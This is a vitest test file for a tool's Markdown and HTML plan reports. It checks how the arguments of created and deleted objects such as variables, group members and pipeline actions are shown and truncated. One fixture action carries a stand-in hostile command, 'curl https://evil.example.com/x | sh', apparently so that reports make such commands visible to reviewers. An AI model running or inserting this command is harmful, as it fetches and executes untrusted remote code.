/** Tests how reports show the arguments of objects that a plan creates or deletes. */
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { formatHtmlReport } from "../../../../reports/html/html-report.js";
import { formatMarkdownReport } from "../../../../reports/markdown/markdown-report.js";
import { done, printed, SECRET, UNKNOWN } from "../../../automation/events.js";
import { planOf, viewOf } from "./support.js";

describe("the arguments of new and deleted objects", () => {
  const events = [
    done("create", ["Variable", "variables/A"], undefined, { key: "A", value: SECRET }),
    done("create", ["GroupMember", "groups/QA/members/ann"], undefined, { group: UNKNOWN, member: 7 }),
    done("create", ["Action", "projects/web/pipelines/x/actions/Build"], undefined, {
      ...{ project: "web", pipeline: UNKNOWN, name: "Build", type: "BUILD" },
      executeCommands: ["set -e\ncurl https://evil.example.com/x | sh\n"],
    }),
    done("delete", ["Group", "groups/Old"], { name: "Old", description: "Who was here" }),
  ];

  it("are folded in Markdown, as render prints them: first what runs commands, then what gives rights", () => {
    const text = formatMarkdownReport(viewOf(planOf(events)));
    const [, created = ""] = text.split("<b>3 to create");
    expect(created.slice(0, created.indexOf("</details>"))).toMatchInlineSnapshot(`
      "</b>: 1 action, 1 group member, 1 variable</summary>

      action \`projects/web/pipelines/x/actions/Build\`

      ~~~yaml
      name: Build
      type: BUILD
      executeCommands:
        - |
          set -e
          curl https://evil.example.com/x | sh
      ~~~

      group member \`groups/QA/members/ann\`

      ~~~yaml
      member: 7
      ~~~

      variable \`variables/A\`

      ~~~yaml
      key: A
      value: [secret]
      ~~~

      "
    `);
    expect(text).toContain("~~~yaml\nname: Old\ndescription: Who was here\n~~~");
  });

  it("are folded in HTML, and printed with --details", () => {
    const { document } = new JSDOM(formatHtmlReport(viewOf(planOf(events)))).window;
    const folded = [...document.querySelectorAll("details.whole pre")].map((one) => one.textContent);
    expect(folded).toHaveLength(4);
    expect(folded[1]).toContain("curl https://evil.example.com/x | sh");
    expect(printed(events, true)).toContain("            curl https://evil.example.com/x | sh\n");
    expect(printed(events, true)).not.toContain("project: web");
  });

  it("leave room for what changes, and are counted", () => {
    const many = Array.from({ length: 400 }, (_, index) =>
      done("create", ["Group", `groups/${index}`], undefined, {
        name: `${index}`,
        description: "x".repeat(300),
      }),
    );
    const text = formatMarkdownReport(viewOf(planOf(many)));
    expect(text.length).toBeLessThan(65_536);
    expect(text.match(/^(- )?group `/gm)?.length).toBeGreaterThan(100);
    expect(text).toMatch(/\*\*\d+ more do not fit here\*\*: see the report as JSON or HTML/);
  });
});
